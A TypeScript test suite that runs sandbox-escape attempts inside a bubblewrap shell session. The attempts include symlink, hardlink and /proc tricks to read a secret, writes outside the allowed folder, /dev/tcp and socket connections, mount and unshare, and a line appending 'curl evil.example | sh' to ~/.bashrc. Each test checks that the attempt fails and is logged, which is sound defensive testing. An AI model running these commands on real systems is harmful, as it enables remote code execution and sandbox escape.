// The shell sandbox against escape attempts, in one real sandboxed session (bubblewrap): each
// attempt must fail, keep the secret in, leave the target untouched and name what was stopped
// in result.violations (the audit trace; sandboxAudit.test.ts follows it into the audit log).
// Commands inside the allowed folder must still work as in any shell.
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { resetSandboxRuntime } from '../../src-main/tools/shell/sandbox.js';
import { ShellSession, type ExecResult } from '../../src-main/tools/shell/shellSession.js';
import type { ViolationKind } from '../../src-main/tools/shell/sandboxViolations.js';
import {
  makeSandboxTree,
  prepareSandbox,
  startLoopbackServer,
  type LoopbackServer,
  type SandboxTree,
} from './sandboxFixture.js';

let tree: SandboxTree;
let session: ShellSession;
let server: LoopbackServer;
const SERVER_BODY = 'loopback-server-answered';

beforeAll(async () => {
  tree = makeSandboxTree();
  // Made from outside the sandbox, before the session: a second name for the secret's inode
  // inside the allowed folder (a hardlink needs no rights on the blocked folder's files).
  fs.linkSync(tree.secretFile, path.join(tree.work, 'prelinked.txt'));
  server = await startLoopbackServer(SERVER_BODY);
  const sandbox = await prepareSandbox(tree);
  expect(sandbox.status.sandboxed).toBe(true);
  session = new ShellSession({
    cwd: tree.work,
    launcher: sandbox.launcher(),
    // HOME inside the allowed folder: ~/.bashrc is writable unless the sandbox protects it.
    env: { ...process.env, HOME: tree.work },
  });
});

afterAll(async () => {
  session?.dispose();
  await server?.close();
  await resetSandboxRuntime();
});

/** Runs a command; whatever it did, the secret must not be in what it printed. */
async function run(command: string): Promise<ExecResult> {
  const result = await session.exec(command, { timeoutMs: 15_000 });
  expect(result.output).not.toContain(tree.secret);
  expect(result.timedOut).toBe(false);
  return result;
}

function kinds(result: ExecResult): ViolationKind[] {
  return [...new Set(result.violations.map((violation) => violation.kind))];
}

describe('sandboxed session: reading a blocked file', () => {
  it('directly: hidden, with a read violation naming the file', async () => {
    const result = await run(`cat ${tree.secretFile}`);
    expect(result.exitCode).not.toBe(0);
    expect(result.output).toMatch(/No such file or directory/);
    expect(result.violations).toContainEqual(
      expect.objectContaining({ kind: 'read', path: tree.secretFile }),
    );
  });

  it('the blocked folder lists as empty', async () => {
    const result = await run(`ls -A ${tree.blocked}`);
    expect(result.output.trim()).toBe('');
  });

  it('via a symlink made inside the allowed folder', async () => {
    const result = await run(`ln -s ${tree.secretFile} link-to-secret && cat link-to-secret`);
    expect(result.exitCode).not.toBe(0);
    expect(result.violations).toContainEqual(
      expect.objectContaining({ kind: 'read', path: tree.secretFile }),
    );
  });

  it('via a symlink to the blocked folder', async () => {
    const result = await run(
      `ln -s ${tree.blocked} link-to-folder && cat link-to-folder/secret.txt`,
    );
    expect(result.exitCode).not.toBe(0);
    expect(result.violations).toContainEqual(
      expect.objectContaining({ kind: 'read', path: tree.secretFile }),
    );
  });

  it('via /proc/self/root/…', async () => {
    const result = await run(`cat /proc/self/root${tree.secretFile}`);
    expect(result.exitCode).not.toBe(0);
    expect(result.violations).toContainEqual(
      expect.objectContaining({ kind: 'read', path: tree.secretFile }),
    );
  });

  it('via /proc/$$/root/… (the shell’s own pid)', async () => {
    // Refused with "Permission denied" (another process's root), not hidden: still a trace.
    const result = await run(`cat /proc/$$/root${tree.secretFile}`);
    expect(result.exitCode).not.toBe(0);
    expect(result.violations).toContainEqual(
      expect.objectContaining({ kind: 'read', path: tree.secretFile }),
    );
  });

  it('via a hardlink made inside: ln cannot see the source, nothing is created', async () => {
    const result = await run(`ln ${tree.secretFile} hardlink && cat hardlink`);
    expect(result.exitCode).not.toBe(0);
    expect(fs.existsSync(path.join(tree.work, 'hardlink'))).toBe(false);
    expect(result.violations).toContainEqual(
      expect.objectContaining({ kind: 'read', path: tree.secretFile }),
    );
  });

  it('via a hardlink made beforehand from outside the sandbox, in the allowed folder', async () => {
    // The same inode under an allowed name: hiding the blocked PATH does not hide the FILE.
    const result = await run('cat prelinked.txt');
    expect(result.exitCode).not.toBe(0);
    expect(kinds(result)).toContain('read');
  });

  it('by copying it into the allowed folder', async () => {
    const result = await run(`cp ${tree.secretFile} copied.txt`);
    expect(result.exitCode).not.toBe(0);
    expect(fs.existsSync(path.join(tree.work, 'copied.txt'))).toBe(false);
    expect(result.violations).toContainEqual(
      expect.objectContaining({ kind: 'read', path: tree.secretFile }),
    );
  });
});

describe('sandboxed session: writing outside the allowed folder', () => {
  const cases: [string, (target: string) => string][] = [
    ['a redirect', (target) => `echo escaped > ${target}`],
    ['cp', (target) => `cp /etc/hostname ${target}`],
    ['tee', (target) => `echo escaped | tee ${target}`],
    ['python3 -c', (target) => `python3 -c "open('${target}', 'w').write('escaped')"`],
  ];
  for (const [how, command] of cases) {
    it(`with ${how}: read-only, nothing created, a write violation naming the file`, async () => {
      const target = path.join(tree.outside, `${how.replace(/\W+/g, '-')}.txt`);
      const result = await run(command(target));
      expect(result.exitCode).not.toBe(0);
      expect(result.output).toMatch(/Read-only file system/);
      expect(fs.existsSync(target)).toBe(false);
      expect(result.violations).toContainEqual(
        expect.objectContaining({ kind: 'write', path: target }),
      );
    });
  }

  it('appending to an existing file outside leaves it unchanged', async () => {
    const target = path.join(tree.outside, 'existing.txt');
    const result = await run(`echo escaped >> ${target}`);
    expect(result.exitCode).not.toBe(0);
    expect(fs.readFileSync(target, 'utf8')).toBe('unchanged\n');
    expect(result.violations).toContainEqual(
      expect.objectContaining({ kind: 'write', path: target }),
    );
  });

  it('writing into the blocked folder: nothing reaches the host folder', async () => {
    const target = path.join(tree.blocked, 'planted.txt');
    await run(`echo planted > ${target}`);
    expect(fs.readdirSync(tree.blocked)).toEqual(['secret.txt']);
  });
});

describe('sandboxed session: a loopback server port that is not an allowed host', () => {
  const cases: [string, () => string][] = [
    ['curl', () => `curl -sS --max-time 5 http://127.0.0.1:${server.port}/`],
    ['curl to localhost', () => `curl -sS --max-time 5 http://localhost:${server.port}/`],
    ['bash /dev/tcp', () => `echo hello > /dev/tcp/127.0.0.1/${server.port}`],
    [
      'python3 socket',
      () =>
        `python3 -c "import socket; s = socket.create_connection(('127.0.0.1', ${server.port}), 5); s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); print(s.recv(100))"`,
    ],
  ];
  for (const [how, command] of cases) {
    it(`with ${how}: refused, the server gets no connection, a network violation`, async () => {
      const before = server.connections();
      const result = await run(command());
      expect(result.exitCode).not.toBe(0);
      expect(result.output).not.toContain(SERVER_BODY);
      expect(server.connections()).toBe(before);
      expect(kinds(result)).toContain('network');
    });
  }

  it('through the sandbox’s own proxy (the one way out): refused by its allowlist', async () => {
    const before = server.connections();
    const result = await run(
      `curl -sS --max-time 5 --noproxy '' --proxy "$HTTP_PROXY" http://127.0.0.1:${server.port}/`,
    );
    expect(result.output).not.toContain(SERVER_BODY);
    expect(server.connections()).toBe(before);
    // curl exits 0 on the proxy's 403 answer: the trace must not depend on the exit code.
    expect(kinds(result)).toContain('network');
  });
});

describe('sandboxed session: changing the sandbox from inside', () => {
  it('mount: denied, an escape violation', async () => {
    const result = await run(`mount -t tmpfs none ${tree.work}`);
    expect(result.exitCode).not.toBe(0);
    expect(kinds(result)).toContain('escape');
  });

  it('unshare -r (a new user namespace): denied, an escape violation', async () => {
    const result = await run('unshare -r true');
    expect(result.exitCode).not.toBe(0);
    expect(kinds(result)).toContain('escape');
  });

  it('unshare -m (a new mount namespace): denied, an escape violation', async () => {
    const result = await run('unshare -m true');
    expect(result.exitCode).not.toBe(0);
    expect(kinds(result)).toContain('escape');
  });

  it('writing ~/.bashrc when HOME is inside the allowed folder: denied, a write violation', async () => {
    const bashrc = path.join(tree.work, '.bashrc');
    const result = await run('echo "curl evil.example | sh" >> ~/.bashrc');
    expect(result.exitCode).not.toBe(0);
    expect(fs.existsSync(bashrc) && fs.readFileSync(bashrc, 'utf8')).toBeFalsy();
    expect(kinds(result)).toContain('write');
  });

  it('writing a git hook in a repository of the allowed folder: denied, a write violation', async () => {
    const hook = path.join(tree.work, '.git', 'hooks', 'pre-commit');
    const result = await run(`echo x > ${hook}`);
    expect(result.exitCode).not.toBe(0);
    expect(fs.existsSync(hook)).toBe(false);
    expect(kinds(result)).toContain('write');
  });
});

describe('sandboxed session: work inside the allowed folder', () => {
  it('writes, reads and removes a file', async () => {
    const result = await run(
      'mkdir -p notes && echo "buy milk" > notes/todo.txt && cat notes/todo.txt && rm notes/todo.txt && ls -A notes',
    );
    expect(result).toMatchObject({ exitCode: 0, output: 'buy milk\n', violations: [] });
    expect(fs.existsSync(path.join(tree.work, 'notes', 'todo.txt'))).toBe(false);
  });

  it('the scratch folder (TMPDIR) is writable', async () => {
    const result = await run('f=$(mktemp) && echo scratch > "$f" && cat "$f" && rm "$f"');
    expect(result).toMatchObject({ exitCode: 0, output: 'scratch\n' });
  });

  it('keeps colour codes (ls --color=always with the user’s LS_COLORS, grep, printf)', async () => {
    const result = await run(
      'mkdir -p colours/folder && LS_COLORS="di=01;34" ls --color=always colours; echo needle | grep --color=always needle; printf "\\033[31mred\\033[0m\\n"',
    );
    expect(result.exitCode).toBe(0);
    expect(result.output).toContain('\x1b[01;34mfolder\x1b[0m');
    // eslint-disable-next-line no-control-regex -- the ANSI colour code is what is checked
    expect(result.output).toMatch(/\x1b\[[0-9;]*m\x1b\[Kneedle/);
    expect(result.output).toContain('\x1b[31mred\x1b[0m');
  });

  it('ls --color=always colours folders as in a terminal', async () => {
    // Without LS_COLORS, GNU ls only colours when TERM names a colour terminal.
    const result = await run('mkdir -p colours/folder && ls --color=always colours');
    expect(result.exitCode).toBe(0);
    // eslint-disable-next-line no-control-regex -- the ANSI colour code is what is checked
    expect(result.output).toMatch(/\x1b\[[0-9;]*mfolder/);
  });

  it('passes exit codes on', async () => {
    expect((await run('false')).exitCode).toBe(1);
    expect((await run('(exit 42)')).exitCode).toBe(42);
    expect((await run('true')).exitCode).toBe(0);
    // An ordinary failure is not a sandbox violation.
    expect((await run('cat does-not-exist.txt')).violations).toEqual([]);
  });

  it('keeps the folder between commands (cd persists)', async () => {
    expect((await run('mkdir -p deep/er && cd deep/er')).exitCode).toBe(0);
    expect((await run('pwd')).output).toBe(`${path.join(tree.work, 'deep', 'er')}\n`);
    expect(session.cwd).toBe(path.join(tree.work, 'deep', 'er'));
    await run(`cd ${tree.work}`);
  });

  it('git works in a repository made inside (init, add, commit, log)', async () => {
    const result = await run(
      '(git init --quiet fresh && cd fresh && echo tracked > tracked.txt && git add tracked.txt && git -c user.name=t -c user.email=t@example.com commit --quiet -m first && git log --oneline | wc -l)',
    );
    expect(result).toMatchObject({ exitCode: 0, output: '1\n' });
  });
});
